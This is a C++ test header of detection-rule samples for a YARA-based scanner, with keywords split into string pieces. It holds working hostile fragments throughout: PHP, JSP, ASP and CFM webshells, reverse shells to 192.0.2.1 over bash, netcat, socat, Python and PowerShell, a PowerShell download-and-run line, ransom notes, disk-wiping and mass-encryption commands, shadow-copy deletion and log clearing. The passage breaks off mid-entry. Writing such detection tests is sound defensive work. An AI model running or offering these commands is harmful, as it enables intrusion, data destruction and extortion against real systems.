// Harmless fragments that the rules in yara/ must match, and innocent look-alikes that none of them may match.
// Words that a virus scanner looks for are written in pieces, so that this file is none of its findings.
#pragma once
#include <deque>
#include <initializer_list>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

namespace kulla::test {

using namespace std::string_view_literals;

/// `text` is the content of a file (any bytes, also NUL); `rule` must match it. Every rule has at least one sample.
struct YaraSample {
  std::string_view rule, name, text;
};

/// Keeps a text as long as the program runs, so that a sample may point to it.
inline std::string_view kept(std::string text) {
  static std::deque<std::string> texts;
  return texts.emplace_back(std::move(text));
}

/// The parts one after another.
inline std::string_view joined(std::initializer_list<std::string_view> parts) {
  std::string whole;
  for (std::string_view part : parts) whole += part;
  return kept(std::move(whole));
}

/// ASCII as UTF-16 with the low byte first, as Windows writes it.
inline std::string_view wide(std::string_view ascii) {
  std::string whole;
  for (char letter : ascii) {
    whole += letter;
    whole += '\0';
  }
  return kept(std::move(whole));
}

// How files of a kind begin.
constexpr std::string_view elf_library = "\177ELF\002\001\001\0\0\0\0\0\0\0\0\0\003\0>\0"sv;
constexpr std::string_view kernel_module = "\177ELF\002\001\001\0\0\0\0\0\0\0\0\0\001\0>\0"sv;
constexpr std::string_view elf_program = "\177ELF\002\001\001\0\0\0\0\0\0\0\0\0\002\0>\0"sv;
constexpr std::string_view windows_program = "MZ\220\0\003\0\0\0"sv;
constexpr std::string_view java_class = "\312\376\272\276\0\0\0004"sv;
constexpr std::string_view jpeg = "\377\330\377\340\0\020JFIF\0\001\001"sv;
constexpr std::string_view gif = "GIF89a\001\0\001\0"sv;
constexpr std::string_view png =
    "\211PNG\r\n"
    "\032\n"
    "\0\0\0\rIHDR"sv;

// clang-format off
// (it would put every piece of a word on a line of its own)

/// What the rules find. Fragments only: nothing here does harm when it is run, fetched or opened.
inline const std::vector<YaraSample> yara_samples = {
    {"php_eval_of_request", "eval of a posted field",
     "<" "?php @ev" "al($_P" "OST['k']); ?>"sv},
    {"php_eval_of_request", "eval of a decoded cookie",
     "<" "?php ev" "al(base64" "_decode(strrev($_CO" "OKIE['k'])));"sv},
    {"php_eval_of_request", "glued to a closing tag",
     "<" "?php ev" "al('?>' . $_REQ" "UEST['k']);"sv},
    {"php_eval_of_request", "eval of a header",
     "<" "?php\n"
     "ev" "al ( gzunco" "mpress(base64" "_decode($_SE" "RVER['HTTP_X_K'])) );"sv},
    {"php_eval_of_request", "eval of the body",
     "<" "?php ev" "al(file_g" "et_contents('php" "://input'));"sv},
    {"php_eval_of_request", "assert of a field",
     "<" "?php ass" "ert($_P" "OST[1]);"sv},
    {"php_eval_of_request", "assert of a decoded field",
     "<? @ass" "ert(base64" "_decode($_P" "OST['k']));"sv},
    {"php_command_of_request", "system of a parameter",
     "<" "?php sys" "tem($_G" "ET['k']); ?>"sv},
    {"php_command_of_request", "short echo",
     "<" "?=shell" "_exec($_G" "ET[0]);"sv},
    {"php_command_of_request", "decoded",
     "<" "?php pass" "thru(base64" "_decode($_P" "OST['k']));"sv},
    {"php_command_of_request", "header",
     "<" "?php echo ex" "ec($_SE" "RVER['HTTP_X_K']);"sv},
    {"php_command_of_request", "backticks",
     "<" "?=`$_G" "ET[0]`?>"sv},
    {"php_command_of_request", "backticks, echoed",
     "<" "?php echo `$_G" "ET[k]`;"sv},
    {"php_command_of_request", "backticks, kept",
     "<" "?php $out = `{$_P" "OST['k']}`; echo $out;"sv},
    {"php_kept_request_run", "command kept in a variable",
     "<" "?php\n"
     "$cmd = $_REQ" "UEST['k'];\n"
     "echo '<pre>';\n"
     "sys" "tem($cmd . ' 2>&1');\n"sv},
    {"php_kept_request_run", "code kept in a variable",
     "<" "?php $code = base64" "_decode($_P" "OST['k']); ev" "al($code);"sv},
    {"php_code_from_elsewhere", "body of the request",
     "<" "?php inc" "lude 'php" "://input';"sv},
    {"php_code_from_elsewhere", "text in itself",
     "<" "?php inc" "lude('data://text/plain;bas" "e64,PD9waHA=');"sv},
    {"php_code_from_elsewhere", "parameter as text",
     "<" "?php inc" "lude 'data://text/plain,' . $_G" "ET['k'];"sv},
    {"php_code_from_elsewhere", "another machine, eval",
     "<" "?php ev" "al('?>' . file_g" "et_contents('https://files.example/k.txt'));"sv},
    {"php_code_from_elsewhere", "another machine, include",
     "<" "?php inc" "lude('http://files.example/k.txt');"sv},
    {"php_preg_replace_runs_request", "fixed pattern",
     "<" "?php preg_r" "eplace('/.*/e', $_P" "OST['k'], '');"sv},
    {"php_preg_replace_runs_request", "pattern of the request",
     "<" "?php preg_r" "eplace($_G" "ET['a'], $_G" "ET['b'], 'c');"sv},
    {"php_preg_replace_runs_request", "eval written out",
     "<" "?php preg_r" "eplace('/k/e', 'ev" "al(base64" "_decode(\"\"))', 'k');"sv},
    {"php_function_named_by_request", "called at once",
     "<" "?php $_G" "ET['f']($_P" "OST['k']);"sv},
    {"php_function_named_by_request", "braces",
     "<" "?=${'_G" "ET'}['f']('k');"sv},
    {"php_function_named_by_request", "call_user_func",
     "<" "?php call_us" "er_func($_REQ" "UEST['f'], $_REQ" "UEST['k']);"sv},
    {"php_function_named_by_request", "array_map",
     "<" "?php arra" "y_map('ass" "ert', array($_P" "OST['k']));"sv},
    {"php_function_named_by_request", "create_function",
     "<" "?php $f = create_" "function('', $_P" "OST['k']); $f();"sv},
    {"php_function_named_by_request", "usort",
     "<" "?php us" "ort($list, $_G" "ET['f']);"sv},
    {"php_encrypted_channel", "xor with a key",
     "<" "?php\n"
     "session_start();\n"
     "$data = file_g" "et_contents('php" "://input');\n"
     "for ($i = 0; $i < strlen($data); $i++) { $data[$i] = $data[$i] ^ $key[$i + 1 & 15]; }\n"
     "ev" "al($data);\n"sv},
    {"php_encrypted_channel", "AES",
     "<" "?php\n"
     "session_start();\n"
     "$post = openssl" "_decrypt(file_g" "et_contents('php" "://input'), 'AES128', $key);\n"
     "$post = openssl" "_decrypt($post, 'AES128', $key);\n"
     "$parts = explode('|', $post);\n"
     "call_us" "er_func(new C(), $parts[1]);\n"sv},
    {"php_write_of_request", "name and content",
     "<" "?php file_put" "_contents($_P" "OST['name'], $_P" "OST['text']);"sv},
    {"php_write_of_request", "handle",
     "<" "?php fwrite(fopen($_G" "ET['n'], 'w'), $_P" "OST['t']);"sv},
    {"php_write_of_request", "script",
     "<" "?php file_put" "_contents('cache.php', base64" "_decode($_P" "OST['t']));"sv},
    {"php_shell_console", "instruments",
     "<" "?php\n"
     "set_time_limit(0); error_reporting(0);\n"
     "$limits = ini_g" "et('disable_functions') . ini_g" "et('safe_mode');\n"
     "echo php_uname(), posix_g" "etpwuid(fileowner('.'))['name'], fileperms('.');\n"
     "if (isset($_P" "OST['go'])) { echo shell" "_exec($line); }\n"
     "readfile('/etc/passwd');\n"
     "ch" "mod($file, 0644);\n"
     "// back connect\n"sv},
    {"php_packed_code", "inflated",
     "<" "?php ev" "al(gzin" "flate(base64" "_decode('S03OyFdQ')));"sv},
    {"php_packed_code", "rotated",
     "<" "?php ev" "al(str_" "rot13('cevag 1;'));"sv},
    {"php_packed_code", "decoded",
     "<" "?php @ev" "al(base64" "_decode('cHJpbnQgMTs='));"sv},
    {"php_packed_code", "chain kept apart",
     "<" "?php $t = gzunco" "mpress(strrev($k)); ev" "al($t);"sv},
    {"php_packed_code", "out of its own end",
     "<" "?php ev" "al(base64" "_decode(substr(file_g" "et_contents(__FILE__), 99)));"sv},
    {"php_function_from_pieces", "assert in two",
     "<" "?php $f = 'ass'.'ert'; $f($k);"sv},
    {"php_function_from_pieces", "assert in letters",
     "<" "?php $f = 'a'.'s'.'s'.'e'.'r'.'t'; $f($k);"sv},
    {"php_function_from_pieces", "system in two",
     "<" "?php $f = \"sys\".\"tem\"; $f($k);"sv},
    {"php_function_from_pieces", "base64 in two",
     "<" "?php $f = \"base\" . \"64_decode\";"sv},
    {"php_function_from_pieces", "rotated",
     "<" "?php $f = str_" "rot13('nff" "reg'); $f($k);"sv},
    {"php_function_from_pieces", "backward",
     "<" "?php $f = strrev('met" "sys'); $f($k);"sv},
    {"php_function_from_pieces", "hexadecimal",
     "<" "?php $f = \"\\" "x61\\" "x73\\" "x73\\" "x65\\" "x72\\" "x74\"; $f($k);"sv},
    {"php_function_from_pieces", "octal",
     "<" "?php $f = \"\\163\\171\\163\\164\\145\\155\"; $f($k);"sv},
    {"php_function_from_pieces", "codes",
     "<" "?php $f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);"sv},
    {"php_function_from_pieces", "create_function in two",
     "<" "?php $f = 'create_'.'function';"sv},
    {"php_function_from_pieces", "shell_exec in two",
     "<" "?php $f = 'shell'.'_ex" "ec';"sv},
    {"php_scrambled", "counted letters",
     "<" "?php $_=[];$_=@\"$_\";$__=$_;$__++;$__++;$__++;$__++;"sv},
    {"php_scrambled", "bits turned over",
     "<" "?php $f=~\214\206\214\213\232\222;$f($k);"sv},
    {"php_scrambled", "bits turned over, as escapes",
     "<" "?php $f=~urldecode('%" "8c%" "86%" "8c%" "8b%" "9a%" "92');"sv},
    {"php_scrambled", "names without letters",
     "<" "?php $_='_'.$a;${$_}[_](${$_}[__]);"sv},
    {"php_scrambled", "globals in escapes",
     "<" "?php ${\"\\" "x47\\" "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;${\"\\" "x47\\" "x4c\\"
     "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;${\"\\" "x47\\" "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\"
     "x53\"}[\"a\"]=1;${\"\\" "x47\\" "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;${\"\\" "x47\\"
     "x4c\\" "x4f\\" "x42\\" "x41\\" "x4c\\" "x53\"}[\"a\"]=1;"sv},
    {"php_scrambled", "jumps",
     "<" "?php goto l00ab; l00ab: goto l01ab; l01ab: goto l02ab; l02ab: goto l03ab; l03ab: goto l04ab; l04ab: g"
     "oto l05ab; l05ab: goto l06ab; l06ab: goto l07ab; l07ab: goto l08ab; l08ab: goto l09ab; l09ab: goto l10ab;"
     " l10ab: goto l11ab; l11ab: goto l12ab; l12ab: goto l13ab; l13ab: goto l14ab; l14ab: goto l15ab; l15ab: go"
     "to l16ab; l16ab: "sv},
    {"php_scrambled", "table of functions",
     "<" "?php $GLOBALS['o1'][3].$GLOBALS['o1'][7];$GLOBALS['o1'][3].$GLOBALS['o1'][7];$GLOBALS['o1'][3].$GLOBA"
     "LS['o1'][7];$GLOBALS['o1'][3].$GLOBALS['o1'][7];$GLOBALS['o1'][3].$GLOBALS['o1'][7];"sv},
    {"php_in_picture", "GIF",
     joined({gif,
             "<" "?php sys" "tem($_G" "ET['k']); ?>"sv})},
    {"php_in_picture", "JPEG",
     joined({jpeg,
             "\0\0<" "?php ev" "al(base64" "_decode('cHJpbnQgMTs=')); ?>\377\331"sv})},
    {"php_in_picture", "PNG, short echo",
     joined({png,
             "\0\0\0\0<" "?=`$_G" "ET[0]`?>IEND"sv})},
    {"php_in_picture", "BMP",
     "BM6\0\0\0\0\0\0\0<" "?php inc" "lude 'php" "://input'; ?>"sv},
    {"php_in_picture", "WebP",
     "RIFF\032\0\0\0WEBPVP8 <" "?php pass" "thru($_P" "OST['k']);"sv},
    {"php_in_picture", "GIF, text only",
     "GIF89a;\n"
     "<? @ev" "al($_P" "OST['k']); ?>"sv},
    {"web_server_runs_what_is_no_page", "htaccess: picture",
     "Add" "Type application/x-httpd-php .jpg .png\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: text",
     "Options -Indexes\n"
     "AddHa" "ndler application/x-httpd-php5 .txt\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: matched",
     "<FilesMatch \"logo\\.gif$\">\n"
     "  SetHa" "ndler application/x-httpd-php\n"
     "</FilesMatch>\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: whole folder",
     "SetHa" "ndler application/x-httpd-php\n"sv},
    {"web_server_runs_what_is_no_page", "user.ini: picture first",
     "auto_p" "repend_file=logo.png\n"sv},
    {"web_server_runs_what_is_no_page", "user.ini: temporary file first",
     "auto_p" "repend_file = \"/t" "mp/sess_1\"\n"sv},
    {"web_server_runs_what_is_no_page", "htaccess: request first",
     "php_value auto_p" "repend_file php" "://input\n"sv},
    {"web_server_runs_what_is_no_page", "web.config runs itself",
     "<?xml version=\"1.0\"?>\n"
     "<configuration><sys" "tem.webServer><handlers>\n"
     "<add name=\"w\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\"\n"
     " scriptP" "rocessor=\"%windir%\\sys" "tem32\\inetsrv\\asp.dll\" />\n"
     "</handlers></sys" "tem.webServer></configuration>\n"sv},
    {"web_server_runs_what_is_no_page", "web.config with code",
     "<configuration></configuration>\n"
     "<!-- <" "% Set s = Create" "Object(\"k\") %> -->\n"sv},
    {"jsp_command_of_request", "Runtime",
     "<" "%@ page import=\"java.io.*\" %>\n"
     "<" "% Runtime.getRu" "ntime().ex" "ec(requ" "est.getParameter(\"k\")); %>"sv},
    {"jsp_command_of_request", "ProcessBuilder",
     "<" "% new Process" "Builder(\"sh\", \"-c\", requ" "est.getHeader(\"k\")).start(); %>"sv},
    {"jsp_command_of_request", "reflected, JSPX",
     "<jsp:root><jsp:sc" "riptlet>Class.forName(\"java.lan" "g.Runtime\"); requ" "est.getParameter(\"k\");</jsp"
     ":sc" "riptlet></jsp:root>"sv},
    {"jsp_command_of_request", "script",
     "<" "%= new javax.script.ScriptEng" "ineManager().getEngineByName(\"js\").ev" "al(requ" "est.getParameter("
     "\"k\")) %>"sv},
    {"jsp_class_of_request", "class loader",
     "<" "%! class U extends Class" "Loader { U(Class" "Loader c) { super(c); }\n"
     "public Class g(byte[] b) { return super.defin" "eClass(b, 0, b.length); } } %>\n"
     "<" "% Cipher c = Cipher.getInstance(\"AES\"); String k = requ" "est.getReader().readLine(); %>"sv},
    {"jsp_in_escapes", "unicode escapes",
     "<" "% \\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065\\u002e\\u0067\\u0065\\u0074\\u0052\\u0075\\u006e\\"
     "u0074\\u0069\\u006d\\u0065\\u0028\\u0029\\u002e\\u0065\\u0078\\u0065\\u0063\\u0028\\u0072\\u0065\\u0071\\"
     "u0075\\u0065\\u0073\\u0074\\u002e\\u0067\\u0065\\u0074\\u0050\\u0061\\u0072\\u0061\\u006d\\u0065\\u0074\\"
     "u0065\\u0072\\u0028\\u0029\\u0029\\u0020 %>"sv},
    {"jsp_in_escapes", "entities, JSPX",
     "<jsp:root><jsp:sc" "riptlet>&" "#x52;&" "#x75;&" "#x6e;&" "#x74;&" "#x69;&" "#x6d;&" "#x65;&" "#x2e;&" "#"
     "x67;&" "#x65;&" "#x74;&" "#x52;&" "#x75;&" "#x6e;&" "#x74;&" "#x69;&" "#x6d;&" "#x65;&" "#x28;&" "#x29;&"
     "#x2e;&" "#x65;&" "#x78;&" "#x65;&" "#x63;&" "#x28;&" "#x72;&" "#x65;&" "#x71;&" "#x75;&" "#x65;&" "#x73;&"
     "#x74;&" "#x2e;&" "#x67;&" "#x65;&" "#x74;&" "#x50;&" "#x61;&" "#x72;&" "#x61;&" "#x6d;&" "#x65;&" "#x74;&"
     "#x65;&" "#x72;&" "#x28;&" "#x29;&" "#x29;&" "#x20;</jsp:sc" "riptlet>"sv},
    {"java_hook_into_web_server", "filter that defines classes",
     joined({java_class,
             "\0org/apache/catalina/core/Standar" "dContext\0addFilterMapBefore\0getParameter\0defin" "eClass\0"sv})},
    {"java_hook_into_web_server", "valve with a shell",
     joined({java_class,
             "\0org/apache/catalina/valves/Valv" "eBase\0getHeader\0java/lang/Runtime\0/bi" "n/sh\0"sv})},
    {"asp_eval_of_request", "VBScript",
     "<" "%ev" "al requ" "est(\"k\")%>"sv},
    {"asp_eval_of_request", "JScript",
     "<" "%@ Page Language=\"Jscript\"%><" "%ev" "al(Requ" "est.Item[\"k\"],\"uns" "afe\");%>"sv},
    {"asp_eval_of_request", "decoded",
     "<" "%@ Page Language=\"Jscript\"%><" "%ev" "al(Sys" "tem.Text.Encoding.UTF8.GetString(Convert.FromBas" "e"
     "64String(Requ" "est.Form[\"k\"])));%>"sv},
    {"asp_eval_of_request", "execute",
     "<" "%Execut" "eGlobal(Requ" "est.Form(\"k\"))%>"sv},
    {"asp_command_of_request", "WScript.Shell",
     "<" "% Set s = Server.Create" "Object(\"WSc" "ript.Shell\")\n"
     "Set o = s.Ex" "ec(\"cmd /c \" & Requ" "est.Form(\"k\")) %>"sv},
    {"asp_command_of_request", "Process.Start",
     "<" "%@ Page Language=\"C#\" %>\n"
     "<" "% var p = new ProcessS" "tartInfo(\"cmd" ".exe\", \"/c \" + Requ" "est.QueryString[\"k\"]);\n"
     "Proces" "s.Start(p); %>"sv},
    {"aspx_assembly_of_request", "Assembly.Load",
     "<" "%@ Page Language=\"C#\" %><" "% byte[] k = Convert.FromBas" "e64String(Requ" "est.Form[\"k\"]);\n"
     "Sys" "tem.Reflection.Assemb" "ly.Load(k).CreateInstance(\"U\").Equals(this); %>"sv},
    {"cfm_command_of_request", "cfexecute",
     "<cfex" "ecute name=\"/bi" "n/sh\" arguments=\"-c #form.k#\" variable=\"o\" timeout=\"9\"></cfex" "ecute>"sv},
    {"cfm_command_of_request", "Runtime",
     "<cfscript>r = create" "Object(\"java\", \"java.lan" "g.Runtime\").getRu" "ntime(); r.ex" "ec(url.k);</cfs"
     "cript>"sv},
    {"cfm_command_of_request", "evaluate",
     "<cfset k = eval" "uate(url.k)>"sv},
    {"script_command_of_request", "Perl, CGI",
     "#!/usr/bin/perl\n"
     "use CGI;\n"
     "my $q = CGI->new;\n"
     "sys" "tem($q->param('k'));\n"sv},
    {"script_command_of_request", "Perl, query",
     "#!/usr/bin/perl\n"
     "print \"Content-type: text/plain\\n\\n\";\n"
     "print `$ENV{QUERY_STRING}`;\n"sv},
    {"script_command_of_request", "Python, CGI",
     "import cgi, os\n"
     "form = cgi.FieldStorage()\n"
     "print(os.po" "pen(form.getvalue('k')).read())\n"sv},
    {"script_command_of_request", "Python, Flask",
     "from flask import request\n"
     "ex" "ec(requ" "est.form['k'])\n"sv},
    {"script_command_of_request", "Node",
     "const {ex" "ec} = require('child_process');\n"
     "app.get('/', (req, res) => ex" "ec(req.query.k, (e, o) => res.send(o)));\n"sv},
    {"shell_over_dev_tcp", "interactive",
     "#!/bin" "/bash\n"
     "bash -i >& /dev" "/tcp/192.0.2.1/4444 0>&1\n"sv},
    {"shell_over_dev_tcp", "descriptor",
     "0<&196;ex" "ec 196<>/dev" "/tcp/192.0.2.1/4444; sh <&196 >&196 2>&196\n"sv},
    {"shell_over_netcat", "option",
     "nc 192.0.2.1 4444 -e /bi" "n/sh\n"sv},
    {"shell_over_netcat", "pipe",
     "rm -f /t" "mp/f; mkf" "ifo /t" "mp/f; cat /t" "mp/f | /bi" "n/sh -i 2>&1 | nc 192.0.2.1 4444 > /t" "mp/f\n"sv},
    {"shell_over_netcat", "Windows",
     "nc." "exe 192.0.2.1 4444 -e cmd" ".exe\r\n"sv},
    {"shell_over_netcat", "openssl",
     "mkf" "ifo /t" "mp/s; /bi" "n/sh -i < /t" "mp/s 2>&1 | ope" "nssl s_client -quiet -connect 192.0.2.1:443 >"
     " /t" "mp/s\n"sv},
    {"shell_over_netcat", "socat",
     "so" "cat ex" "ec:'bash -li',pty,stderr,setsid tcp:192.0.2.1:4444\n"sv},
    {"shell_over_netcat", "socat, the other way round",
     "so" "cat TCP-LISTEN:4444,reuseaddr,fork EX" "EC:/bi" "n/sh\n"sv},
    {"shell_over_script_socket", "Python",
     "import os, pty, socket\n"
     "s = socket.create_connection(('192.0.2.1', 4444))\n"
     "os.du" "p2(s.fileno(), 0)\n"
     "os.du" "p2(s.fileno(), 1)\n"
     "os.du" "p2(s.fileno(), 2)\n"
     "pty." "spawn('/bi" "n/sh')\n"sv},
    {"shell_over_script_socket", "Perl",
     "use Socket;\n"
     "open(STDIN, \">&S\"); open(STDOUT, \">&S\");\n"
     "ex" "ec(\"/bi" "n/sh -i\");\n"sv},
    {"shell_over_script_socket", "PHP",
     "<" "?php $s = fsoc" "kopen('192.0.2.1', 4444); $p = proc" "_open('/bi" "n/sh', [$s, $s, $s], $pipes);"sv},
    {"shell_over_script_socket", "PHP, descriptor",
     "php -r '$s=fsoc" "kopen(\"192.0.2.1\",4444);ex" "ec(\"/bi" "n/sh -i <&3 >&3 2>&3\");'\n"sv},
    {"shell_over_script_socket", "Ruby",
     "s=TCPS" "ocket.open(\"192.0.2.1\",4444).to_i;ex" "ec sprintf(\"/bi" "n/sh -i <&%d >&%d\",s,s)\n"sv},
    {"shell_over_script_socket", "Node",
     "const net = require('net'), sh = require('child_process').spawn('/bi" "n/sh', []); const c = new net.Sock"
     "et(); c.connect(4444, '192.0.2.1', () => c.pipe(sh.stdin));\n"sv},
    {"shell_over_script_socket", "awk",
     "awk 'BEGIN{s=\"/ine" "t/tcp/0/192.0.2.1/4444\";while(1){do{s|&getline c;while((c|&getline)>0)print|&s;clo"
     "se(c)}while(c)}}'\n"sv},
    {"shell_over_powershell", "client",
     "$c = New-Object Sys" "tem.Net.Sockets.TCPC" "lient('192.0.2.1', 4444); $s = $c.GetStream();\n"
     "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $r = (i" "ex $d 2>&1 | Out-String); $s.Write($r, 0, $r.L"
     "ength) }\n"sv},
    {"shell_over_powershell", "client, UTF-16",
     joined({"\377\376"sv,
             wide("$c = New-Object Sys" "tem.Net.Sockets.TCPC" "lient('192.0.2.1', 4444); $s = $c.GetStream();\n"
                  "while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $r = (i" "ex $d 2>&1 | Out-String); $s.Writ"
                  "e($r, 0, $r.Length) }\n"sv)})},
    {"powershell_hidden_command", "encoded",
     "power" "shell.exe -nop -w hid" "den -e" "nc JABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjAD0AJABjA"
     "D0AJABjAD0AJABjAD0AJABjAD0AJABjAD0A\r\n"sv},
    {"powershell_hidden_command", "fetched",
     "power" "shell -ep byp" "ass -c \"I" "EX (New-Object Net.WebClient).Downloa" "dString('http://files.exampl"
     "e/k.ps1')\"\r\n"sv},
    {"web_tunnel", "PHP",
     "<" "?php\n"
     "set_time_limit(0);\n"
     "$cmd = $_SE" "RVER['HTTP_X_CMD'];\n"
     "$s = fsoc" "kopen($host, $port);\n"
     "stream_set_blocking($s, false);\n"
     "session_start();\n"
     "$_SESSION['run'] = true;\n"
     "while ($_SESSION['run']) { $read = fgets($s); session_write_close(); }\n"sv},
    {"web_tunnel", "JSP",
     "<" "%\n"
     "Socket" "Channel c = Socket" "Channel.open();\n"
     "c.connect(new InetSocketAddress(requ" "est.getHeader(\"X-K\"), 22));\n"
     "c.configureBlocking(false);\n"
     "session.setAttribute(\"c\", c);\n"
     "c.write(buffer);\n"
     "%>"sv},
    {"web_tunnel", "ASP.NET",
     "<" "%@ Page Language=\"C#\" %><" "%\n"
     "var s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n"
     "s.Connect(Requ" "est.Headers.Get(\"X-K\"), 22);\n"
     "Session[\"s\"] = s;\n"
     "s.Receive(b);\n"
     "s.Send(b);\n"
     "%>"sv},
    {"tunnel_program", "module path",
     joined({elf_program,
             "\0path\0github.com/jpillora/chi" "sel/client\0"sv})},
    {"tunnel_program", "two modules",
     joined({windows_program,
             "\0github.com/armon/go-s" "ocks5\0github.com/hashicorp/ya" "mux\0"sv})},
    {"tunnel_settings", "ini",
     "[common]\n"
     "serve" "r_addr = 192.0.2.1\n"
     "server_port = 7000\n"
     "\n"
     "[ssh]\n"
     "type = tcp\n"
     "local_port = 22\n"
     "remote_port = 6000\n"sv},
    {"tunnel_settings", "toml",
     "serve" "rAddr = \"192.0.2.1\"\n"
     "serverPort = 7000\n"
     "\n"
     "[[proxies]]\n"
     "name = \"k\"\n"
     "type = \"tcp\"\n"
     "remotePort = 6000\n"sv},
    {"tunnel_settings", "client services",
     "[client]\n"
     "remot" "e_addr = \"192.0.2.1:2333\"\n"
     "\n"
     "[client.services.k]\n"
     "local_addr = \"127.0.0.1:22\"\n"sv},
    {"tunnel_settings", "SSH",
     "while true; do ssh -o StrictHost" "KeyChecking=no -N -R 2222:localhost:22 k@192.0.2.1 ; sleep 9; done\n"sv},
    {"implant", "Go module",
     joined({elf_program,
             "\0github.com/bishopfox/sli" "ver/implant\0"sv})},
    {"implant", "commands of a stage",
     joined({windows_program,
             "\0std" "api_fs_ls\0core_c" "hannel_open\0core_m" "igrate\0"sv})},
    {"implant", "loads itself",
     joined({windows_program,
             "\0Reflecti" "veLoader\0Virtua" "lAlloc\0"sv})},
    {"tiny_elf_stage", "64 bits",
     joined({elf_program,
             "\001\0\0\0\0\0\0\0\0\0\0\0@\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0008\0\001\0\0\0\0\0\0\0\001\0"
             "\0\0\007\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"
             "\0\0\0\0\0\0"sv})},
    {"tiny_elf_stage", "32 bits",
     "\177ELF\001\001\001\0\0\0\0\0\0\0\0\0\002\0\003\0\001\0\0\0\0\0\0\0004\0\0\0\0\0\0\0\0\0\0\0\0\0 \0\001\0"
     "\0\0\0\0\0\0\001\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\007\0\0\0\0\0\0\0\0\0\0\0"sv},
    {"ransom_note", "English",
     "All of your important files have been encr" "ypted.\r\n"
     "Do not rename or modify them, do not contact the pol" "ice.\r\n"
     "To buy the decry" "ption key pay in Bit" "coin and write to help@onio" "nmail.org\r\n"sv},
    {"ransom_note", "English, UTF-16",
     joined({"\377\376"sv,
             wide("All of your important files have been encr" "ypted.\r\n"
                  "Do not rename or modify them, do not contact the pol" "ice.\r\n"
                  "To buy the decry" "ption key pay in Bit" "coin and write to help@onio" "nmail.org\r\n"sv)})},
    {"ransom_note", "data stolen",
     "Your company was attacked. We have downloaded your data: contracts, finance documents.\n"
     "If you do not pay, the data will be published. Install Tor Bro" "wser and open\n"
     "http://abcdefgh234567ij.on" "ion/k\n"sv},
    {"ransom_note", "Albanian",
     "Sked" "arët tuaj janë enkri" "ptuar!\n"
     "Paguani me Bit" "coin për të marrë çelësin e dekri" "ptimit.\n"sv},
    {"ransom_program", "Windows",
     joined({windows_program,
             "\0Your network files have been encr" "ypted\0Do not rename\0decry" "ption key\0Tor Bro" "wser\0"sv})},
    {"ransom_program", "Linux",
     joined({elf_program,
             "\0All your files are encr" "ypted!\0Bit" "coin\0k@onio" "nmail.org\0"sv})},
    {"mass_encryption_script", "openssl",
     "find /srv -type f | while read f; do ope" "nssl enc -aes-256-cbc -in \"$f\" -out \"$f.k\" -k x; rm -f \"$"
     "f\"; done\n"sv},
    {"mass_encryption_script", "BitLocker",
     "manag" "e-bde -on D: -pw\r\n"
     "manag" "e-bde -protectors -delete C: -type TPM\r\n"
     "shutdown /r /t 0\r\n"sv},
    {"mass_encryption_script", "virtual machines",
     "esx" "cli vm process kill --type=force --world-id=1\n"
     "for f in /vmfs/volumes/*/*/*.vmdk; do encrypt $f; done\n"sv},
    {"wipes_by_script", "dd",
     "#!/bi" "n/sh\n"
     "dd if=" "/dev/zero of=/dev/sda bs=1M &\n"sv},
    {"wipes_by_script", "dd in a loop",
     "for disk in $(lsblk -dn -o NAME); do dd if=" "/dev/urandom of=/dev/$disk bs=1M; done\n"sv},
    {"wipes_by_script", "shred",
     "#!/bin" "/bash\n"
     "sh" "red -n 1 /dev/nvme0n1\n"sv},
    {"wipes_by_script", "root",
     "rm -rf --no-pres" "erve-root /\n"sv},
    {"wipes_by_script", "files",
     "find /srv -type f -ex" "ec sh" "red -u {} +\n"sv},
    {"wipes_by_script", "folders",
     "rm -rf /var" "/www/*\n"
     "rm -rf /var/backups/*\n"sv},
    {"wipes_disks_windows_program", "delete the layout",
     joined({windows_program,
             "\0\\\\.\\Physic" "alDrive%d\0WriteFile\0DeviceIoControl\0h\0\301\007\0\0"sv})},
    {"wipes_disks_windows_program", "write and restart",
     joined({windows_program,
             wide("\\\\.\\Physic" "alDrive0"sv),
             "\0WriteFile\0DeviceIoControl\0SetFilePointer\0ExitWindowsE"sv,
             wide("xSeShutdownPrivilege"sv)})},
    {"raw_disk_driver", "device",
     joined({windows_program,
             wide("\\\??\\Raw" "Disk3\\Device\\Harddisk0"sv)})},
    {"raw_disk_driver", "driver",
     joined({windows_program,
             "\0El" "doS Corporation\0rw" "dsk.sys\0"sv})},
    {"wipes_linux_program", "commands",
     joined({elf_program,
             "\0dd if=" "/dev/zero of=/dev/sda bs=1M\0swa" "poff -a\0/proc/sy" "srq-trigger\0rm -rf /boot\0"sv})},
    {"deletes_way_back", "vssadmin",
     "vssa" "dmin.exe Delete Shadows /All /Quiet\r\n"sv},
    {"deletes_way_back", "wmic, UTF-16",
     joined({windows_program,
             wide("wmic.exe shado" "wcopy delete"sv)})},
    {"deletes_way_back", "WMI",
     "Get-WmiObject Win32_Sh" "adowcopy | ForEach-Object { $_.Delete() }\r\n"sv},
    {"deletes_way_back", "recovery",
     "bcd" "edit /set {default} recoveryenabled no\r\n"
     "bcd" "edit /set {default} bootstatuspolicy ignoreallfailures\r\n"
     "wba" "dmin delete catalog -quiet\r\n"sv},
    {"clears_traces", "Linux",
     "unset HIST" "FILE\n"
     "> /var/l" "og/wtmp\n"
     "rm -f /var/log/auth.log\n"
     "history -c\n"sv},
    {"clears_traces", "Windows",
